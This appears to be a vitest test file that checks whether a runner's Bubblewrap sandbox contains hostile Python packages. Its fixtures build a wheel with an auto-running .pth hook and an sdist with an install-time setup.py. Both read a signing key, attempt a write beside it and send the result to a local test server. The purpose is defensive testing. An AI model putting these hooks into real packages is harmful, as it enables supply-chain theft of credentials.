import { execFileSync } from "node:child_process";
import {
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  realpathSync,
  rmSync,
  writeFileSync,
} from "node:fs";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { pythonRuntime } from "../../../packages/runner/src/containers/python/python-runtime.ts";
import { bubblewrap } from "../../../packages/runner/src/isolation/bubblewrap.ts";
import { noIsolation } from "../../../packages/runner/src/isolation/no-isolation.ts";
import { install, launch } from "../../../packages/runner/test/containers/python-room.ts";

const python = process.env.KFP_TS_PYTHON ?? "python3";
const path = process.env.PATH ?? "/usr/bin:/bin";
const place = realpathSync(mkdtempSync(join(tmpdir(), "kfp-ts-hostile-")));
const key = join(place, "signing-key");
/** What the code of packages told, in the order in which it came. */
const told: string[] = [];
let server: Server;
let origin: string;

/** Code that tries to read the key, to write beside it, and tells what came of it. */
const spy = (where: string) => `
import urllib.request, urllib.parse
def attempt(do):
    try: return do()
    except OSError as error: return type(error).__name__
found = [attempt(lambda: open(${JSON.stringify(key)}).read()), attempt(lambda: open(${JSON.stringify(join(place, "written"))}, "w").close() or "wrote")]
try: urllib.request.urlopen(${JSON.stringify(`${origin}/told?${where}=`)} + urllib.parse.quote(" ".join(found)))
except Exception: pass
`;

/** A wheel whose code runs whenever an interpreter starts that has it, and an sdist whose code runs when it is installed. */
const makePackages = String.raw`
import sys, zipfile, tarfile, io
place, start, setup = sys.argv[1:]
with zipfile.ZipFile(place + "/evil-1.0-py3-none-any.whl", "w") as wheel:
    wheel.writestr("evil.pth", "import evil_start\n")
    wheel.writestr("evil_start.py", start)
    wheel.writestr("evil-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: evil\nVersion: 1.0\n")
    wheel.writestr("evil-1.0.dist-info/WHEEL", "Wheel-Version: 1.0\nGenerator: x\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
    wheel.writestr("evil-1.0.dist-info/RECORD", "")
with zipfile.ZipFile(place + "/spoil-1.0-py3-none-any.whl", "w") as wheel:
    wheel.writestr("spoil-1.0.data/data/complete", "")
    wheel.writestr("spoil-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: spoil\nVersion: 1.0\n")
    wheel.writestr("spoil-1.0.dist-info/WHEEL", "Wheel-Version: 1.0\nGenerator: x\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
    wheel.writestr("spoil-1.0.dist-info/RECORD", "")
with tarfile.open(place + "/worse-1.0.tar.gz", "w:gz") as sdist:
    for name, text in (("PKG-INFO", "Metadata-Version: 1.0\nName: worse\nVersion: 1.0\n"), ("setup.py", setup)):
        entry = tarfile.TarInfo("worse-1.0/" + name)
        entry.size = len(text.encode())
        sdist.addfile(entry, io.BytesIO(text.encode()))
`;

beforeAll(async () => {
  writeFileSync(key, "the-signing-key");
  server = createServer((request, response) => {
    const url = new URL(request.url ?? "/", "http://localhost");
    if (url.pathname === "/told") told.push(decodeURIComponent(url.search));
    const name = url.pathname.split("/").at(-1) ?? "";
    const file = ["evil-1.0-py3-none-any.whl", "spoil-1.0-py3-none-any.whl", "worse-1.0.tar.gz"].find((one) =>
      url.pathname.includes(one.slice(0, 4)),
    );
    if (name !== "" && existsSync(join(place, name))) response.end(readFileSync(join(place, name)));
    else response.setHeader("content-type", "text/html").end(`<a href="/files/${file}">${file}</a>`);
  });
  await new Promise<void>((listening) => server.listen(0, "127.0.0.1", listening));
  origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  const setup = `${spy("install")}\nfrom setuptools import setup\nsetup(name="worse", version="1.0")\n`;
  execFileSync("python3", ["-c", makePackages, place, spy("start"), setup]);
});
afterAll(() => {
  server.close();
  rmSync(place, { recursive: true, force: true });
});

async function runWith(isolation: ReturnType<typeof noIsolation>, requirement: string): Promise<string> {
  told.length = 0;
  const limits = { network: true, maxLogBytes: 1 << 20 };
  const environmentsFolder = join(place, isolation.name, requirement);
  const pipEnvironment = { PATH: path, HOME: place };
  const runtime = pythonRuntime({ python, isolation, environmentsFolder, path, pipEnvironment, ...limits });
  const folder = join(environmentsFolder, "attempt");
  for (const name of ["work", "home", "tmp"]) mkdirSync(join(folder, name), { recursive: true });
  const pip = "python3 -m pip install --quiet --no-warn-script-location";
  const calls = `${pip} 'kfp==2.13.0' '--no-deps' && ${pip} --index-url ${origin}/simple '--no-build-isolation' '${requirement}'`;
  const source = "from kfp import dsl\n\ndef f() -> str:\n    return 'done'\n";
  const command = ["sh", "-c", install(calls), "sh", "-ec", launch, source];
  const outputFile = join(folder, "output_metadata.json");
  const input = { outputs: { outputFile, parameters: { Output: { outputFile: join(folder, "Output") } } } };
  const args = ["--executor_input", JSON.stringify(input), "--function_to_execute", "f"];
  const { signal } = new AbortController();
  try {
    const prepared = await runtime.prepare({ image: "any", command, args }, { signal });
    const job = { image: "any", command, args, env: {}, folder, mounts: [], logFile: join(folder, "log"), signal };
    await prepared.start(job);
  } catch {
    // Whether it can be installed is not what is asked here.
  } finally {
    await runtime.close();
  }
  return told.join("\n");
}

const needed = process.env.KFP_TS_NEEDS_BUBBLEWRAP === "true";
const missing = await bubblewrap().unavailable();

test("a package that spoils its own environment is an error of the task, and nothing is left of it", async () => {
  const environmentsFolder = join(place, "spoiled");
  const limits = { network: true, maxLogBytes: 1 << 20 };
  const isolation = noIsolation();
  const pipEnvironment = { PATH: path, HOME: place };
  const runtime = pythonRuntime({ python, isolation, environmentsFolder, path, pipEnvironment, ...limits });
  const calls = `python3 -m pip install --quiet --index-url ${origin}/simple 'spoil==1.0'`;
  const container = { image: "any", command: ["sh", "-c", install(calls), "sh", "-ec", launch, "def f(): pass"] };
  const { signal } = new AbortController();
  await expect(runtime.prepare(container, { signal })).rejects.toMatchObject({
    code: "ENVIRONMENT_FAILED",
    message: expect.stringContaining("spoil==1.0"),
  });
  expect(readdirSync(environmentsFolder).filter((name) => name.startsWith("making-"))).toEqual([]);
  await runtime.close();
});

describe.skipIf(missing !== undefined && !needed)("the code of a package", () => {
  test.each(["evil==1.0", "worse==1.0"])(
    "sees what its user sees where nothing is isolated: %s",
    async (requirement) => {
      expect(await runWith(noIsolation(), requirement)).toContain("the-signing-key");
    },
  );

  test.each(["evil==1.0", "worse==1.0"])(
    "sees nothing of the server in isolation, when it is installed and whenever it runs: %s",
    async (requirement) => {
      rmSync(join(place, "written"), { force: true });
      const said = await runWith(bubblewrap(), requirement);
      expect(said).toContain("Error");
      expect(said).not.toContain("the-signing-key");
      expect(existsSync(join(place, "written"))).toBe(false);
    },
  );
});
